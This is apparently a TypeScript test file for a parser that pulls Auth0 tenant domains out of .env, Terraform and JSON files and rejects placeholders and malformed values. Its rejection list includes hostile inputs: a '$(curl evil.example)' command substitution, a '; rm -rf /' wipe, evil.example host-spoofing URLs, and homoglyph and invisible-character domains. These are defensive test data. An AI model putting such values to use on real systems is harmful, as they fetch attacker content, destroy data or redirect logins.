import assert from 'node:assert/strict';
import { domainsInFile } from '../../../src/connect/domainsInFile.ts';

type Case = readonly [text: string, ...domains: readonly string[]];

const variables: readonly Case[] = [
  ['AUTH0_DOMAIN=acme.eu.auth0.com', 'acme.eu.auth0.com'],
  ['AUTH0_DOMAIN = "acme.eu.auth0.com"', 'acme.eu.auth0.com'],
  ["AUTH0_DOMAIN='acme.eu.auth0.com' # production", 'acme.eu.auth0.com'],
  ['AUTH0_DOMAIN=`acme.eu.auth0.com`', 'acme.eu.auth0.com'],
  ['AUTH0_DOMAIN=acme.eu.auth0.com # production', 'acme.eu.auth0.com'],
  ['export AUTH0_DOMAIN=acme.eu.auth0.com', 'acme.eu.auth0.com'],
  ['\tAUTH0_DOMAIN=ACME.EU.AUTH0.COM ', 'acme.eu.auth0.com'],
  ['AUTH0_ISSUER_BASE_URL=https://acme.eu.auth0.com', 'acme.eu.auth0.com'],
  ['AUTH0_ISSUER=https://acme.eu.auth0.com/', 'acme.eu.auth0.com'],
  ['AUTH_AUTH0_ISSUER=https://acme.eu.auth0.com', 'acme.eu.auth0.com'],
  ['AUTH0_TENANT_DOMAIN=acme.eu.auth0.com', 'acme.eu.auth0.com'],
  ['AUTH0_MGMT_DOMAIN=acme.eu.auth0.com', 'acme.eu.auth0.com'],
  ['AUTH0_MANAGEMENT_DOMAIN=acme.eu.auth0.com', 'acme.eu.auth0.com'],
  ['AUTH0_CUSTOM_DOMAIN=login.acme.com', 'login.acme.com'],
  ['NEXT_PUBLIC_AUTH0_DOMAIN=acme.eu.auth0.com', 'acme.eu.auth0.com'],
  ['VITE_AUTH0_DOMAIN=acme.eu.auth0.com', 'acme.eu.auth0.com'],
  ['REACT_APP_AUTH0_DOMAIN=acme.eu.auth0.com', 'acme.eu.auth0.com'],
  ['TF_VAR_auth0_domain=acme.eu.auth0.com', 'acme.eu.auth0.com'],
  ['ISSUER_BASE_URL=https://acme.eu.auth0.com', 'acme.eu.auth0.com'],
  ['AUTH0_DOMAIN=acme.prod.auth0app.com', 'acme.prod.auth0app.com'],
  ['AUTH0_DOMAIN=127.0.0.1:4001', '127.0.0.1:4001'],
  ['AUTH0_ISSUER_BASE_URL=http://localhost:4001/', 'localhost:4001'],
  [
    'AUTH0_DOMAIN=b.auth0.com\r\nVITE_AUTH0_DOMAIN=a.auth0.com\nAUTH0_ISSUER=https://b.auth0.com/',
    'b.auth0.com',
    'a.auth0.com',
  ],
  ['AUTH0_DOMAIN=yourco.auth0.com', 'yourco.auth0.com'],
];

const leftOut: readonly string[] = [
  '',
  '=acme.auth0.com',
  'AUTH0_DOMAIN',
  'AUTH0_DOMAIN=',
  '# AUTH0_DOMAIN=acme.auth0.com',
  '#AUTH0_DOMAIN=acme.auth0.com',
  'AUTH0_DOMAIN="acme.auth0.com',
  'AUTH0_DOMAINS=acme.auth0.com',
  'MYAUTH0_DOMAIN=acme.auth0.com',
  'AUTH0_CLIENT_ID=acme.auth0.com',
  'AUTH0_BASE_URL=http://localhost:3000',
  'ISSUER_BASE_URL=https://login.acme.com',
  'AUTH0_DOMAIN=${TENANT}.auth0.com',
  'AUTH0_DOMAIN=$TENANT.auth0.com',
  'AUTH0_DOMAIN=<tenant>.auth0.com',
  'AUTH0_DOMAIN={yourDomain}',
  'AUTH0_DOMAIN=https://{yourDomain}',
  'AUTH0_DOMAIN=YOUR_DOMAIN',
  'AUTH0_DOMAIN=your-domain.auth0.com',
  'AUTH0_DOMAIN=YOUR-TENANT.us.auth0.com',
  'AUTH0_DOMAIN=yourdomain.eu.auth0.com',
  'AUTH0_DOMAIN=your-auth0-tenant-name.auth0.com',
  'AUTH0_DOMAIN=my-tenant.auth0.com',
  'AUTH0_DOMAIN=tenant.auth0.com',
  'AUTH0_DOMAIN=example.us.auth0.com',
  'AUTH0_DOMAIN=xxxx.auth0.com',
  'AUTH0_DOMAIN=your-custom-domain.com',
  'AUTH0_DOMAIN=acme',
  'AUTH0_DOMAIN=acme.auth0.com@evil.example',
  'AUTH0_DOMAIN=https://acme.auth0.com:x@evil.example/',
  'AUTH0_DOMAIN=evilauth0.com',
  'AUTH0_DOMAIN=acme.auth0.com.evil.example',
  'AUTH0_DOMAIN=acme.auth0.com\\@evil.example',
  'AUTH0_DOMAIN=acme.auth0.com/../evil',
  'AUTH0_DOMAIN=acme.auth0.com$(curl evil.example)',
  'AUTH0_DOMAIN=acme.auth0.com; rm -rf /',
  'AUTH0_DOMAIN=аcme.auth0.com',
  'AUTH0_DOMAIN=acme。auth0。com',
  'AUTH0_DOMAIN=acme\u202e.auth0.com',
  'AUTH0_DOMAIN=ac\u200bme.auth0.com',
  'AUTH0_DOMAIN=xn--cme-7cd.auth0.com',
  'AUTH0_DOMAIN=acme.auth0.com\u0000',
  'AUTH0_DOMAIN=acme\ufffd.auth0.com',
  'AUTH0_DOMAIN=192.168.1.1',
  'AUTH0_DOMAIN=http://acme.auth0.com',
  'AUTH0_DOMAIN=manage.auth0.com',
  // UTF-16, as an older PowerShell writes it, read as UTF-8.
  '\ufffd\ufffd' + 'AUTH0_DOMAIN=acme.auth0.com'.replace(/./g, '$&\u0000'),
];

const blocks: readonly Case[] = [
  ['provider "auth0" {\n  domain = "acme.eu.auth0.com"\n}', 'acme.eu.auth0.com'],
  ['provider "auth0" { domain = "acme.eu.auth0.com" }', 'acme.eu.auth0.com'],
  ['provider "auth0" {\n  alias = "eu" // {\n  /* } */ domain = "acme.eu.auth0.com" # }\n}', 'acme.eu.auth0.com'],
  ['auth0_domain = "acme.eu.auth0.com"', 'acme.eu.auth0.com'],
  ['auth0_tenant_domain="acme.eu.auth0.com"', 'acme.eu.auth0.com'],
  ['variable "auth0_domain" {\n  type = string\n  default = "acme.eu.auth0.com"\n}', 'acme.eu.auth0.com'],
  ['locals {\n  staging = {\n    auth0_domain = "acme.eu.auth0.com"\n  }\n}', 'acme.eu.auth0.com'],
  ['provider "auth0" {\n  domain = var.auth0_domain\n}'],
  ['provider "auth0" {\n  domain = "${var.tenant}.auth0.com"\n}'],
  ['provider "auth0" {\n  domain = ""\n}'],
  ['provider "auth0" {\n  # domain = "acme.eu.auth0.com"\n}'],
  ['provider "auth0" {\n  /* domain = "acme.eu.auth0.com"\n'],
  ['provider "auth0" {\n}\ndomain = "acme.eu.auth0.com"'],
  ['provider "okta" {\n  domain = "acme.eu.auth0.com"\n}'],
  ['resource "auth0_custom_domain" "login" {\n  domain = "login.acme.com"\n}'],
  ['variable "region" {\n  default = "acme.eu.auth0.com"\n}'],
  ['}}}} auth0_domain = "acme.auth0.com@evil.example"'],
  ['auth0_domain = "acme.auth0.com\nx"'],
  ['auth0_domain = "evilauth0.com"'],
  ['auth0_domain = file("acme.auth0.com")'],
  ['count = var.auth0_domain == "acme.auth0.com" ? 1 : 0'],
];

const json: readonly Case[] = [
  ['{ "AUTH0_DOMAIN": "acme.eu.auth0.com", "AUTH0_CLIENT_ID": "x" }', 'acme.eu.auth0.com'],
  ['{\n  // comments\n  "staging": { "AUTH0_DOMAIN": "acme.eu.auth0.com" },\n}', 'acme.eu.auth0.com'],
  ['{ "AUTH0_DOMAIN": "a.auth0.com", "x": ["b"], "AUTH0_DOMAIN": "b.auth0.com" ', 'a.auth0.com', 'b.auth0.com'],
  ['{ "AUTH0_DOMAIN": "<YOUR_TENANT_DOMAIN>" }'],
  ['{ "AUTH0_DOMAIN": ["acme.eu.auth0.com"] }'],
  ['{ "AUTH0_DOMAIN": "acme\\u002eauth0.com" }'],
  ['{ "AUTH0_DOMAIN": "acme.auth0.com@evil.example" }'],
  ['{ "domain": "acme.eu.auth0.com" }'],
];

const length = 256 * 1024;

const huge: readonly (readonly [what: string, path: string, text: string])[] = [
  ['a line without an end', '.env', `AUTH0_DOMAIN=${'a'.repeat(length)}.auth0.com`],
  ['spaces', '.env', `AUTH0_DOMAIN=${' '.repeat(length)}#`],
  ['names', '.env', `${'AUTH0_'.repeat(length / 6)}DOMAIN=x`],
  ['lines of names', '.env', `${'AUTH0_'.repeat(160)}\n`.repeat(length / 961)],
  ['escaped quotes', 'a.tf', '\\"'.repeat(length / 2)],
  ['colons', '.env', `AUTH0_DOMAIN=${':1'.repeat(length / 2)}x`],
  ['dots', '.env', `AUTH0_DOMAIN=${'1.'.repeat(length / 2)}x`],
  ['comments without an end', 'a.tf', '/*\n'.repeat(length / 3)],
  ['blocks without an end', 'a.tf', 'provider "auth0" {\n'.repeat(length / 19)],
  ['braces', 'a.json', '{\n'.repeat(length / 2)],
];

describe('domains in a file', () => {
  for (const [text, ...domains] of variables) {
    it(`finds ${domains.join(', ')} in ${JSON.stringify(text)}`, () => {
      assert.deepEqual(domainsInFile('web/.env.local', text), domains);
    });
  }
  for (const text of leftOut) {
    it(`leaves out ${JSON.stringify(text)}`, () => {
      assert.deepEqual(domainsInFile('.env', text), []);
    });
  }
  for (const [text, ...domains] of blocks) {
    it(`finds ${domains.join(', ') || 'nothing'} in Terraform’s ${JSON.stringify(text)}`, () => {
      assert.deepEqual(domainsInFile('infra/main.tf', text), domains);
    });
  }
  for (const [text, ...domains] of json) {
    it(`finds ${domains.join(', ') || 'nothing'} in JSON’s ${JSON.stringify(text)}`, () => {
      assert.deepEqual(domainsInFile('auth0/config.json', text), domains);
    });
  }
  for (const path of ['.env', '.env.local', 'C:\\web\\.ENV', 'prod.env']) {
    it(`reads ${path} as variables`, () => {
      assert.deepEqual(domainsInFile(path, 'AUTH0_DOMAIN=acme.auth0.com'), ['acme.auth0.com']);
    });
  }
  for (const path of ['main.tf', 'prod.auto.tfvars', 'config.json', 'prod.tfvars.json']) {
    it(`reads ${path} as assignments`, () => {
      assert.deepEqual(domainsInFile(path, '"auth0_domain": "acme.auth0.com"'), ['acme.auth0.com']);
    });
  }
  for (const path of ['.envrc/readme.md', 'README.md', 'main.ts', 'env', '']) {
    it(`does not read ${JSON.stringify(path)}`, () => {
      assert.deepEqual(domainsInFile(path, 'AUTH0_DOMAIN="acme.auth0.com"'), []);
    });
  }
  it('reads on after a long line', () => {
    const text = `BLOB=${'x'.repeat(length)}\nAUTH0_DOMAIN=acme.auth0.com`;
    assert.deepEqual(domainsInFile('.env', text), ['acme.auth0.com']);
  });
  for (const [what, path, text] of huge) {
    // What takes quadratic time at this length takes more than mocha's limit of a test.
    it(`is done with ${length} characters of ${what}`, () => {
      assert.deepEqual(domainsInFile(path, text), []);
    });
  }
});
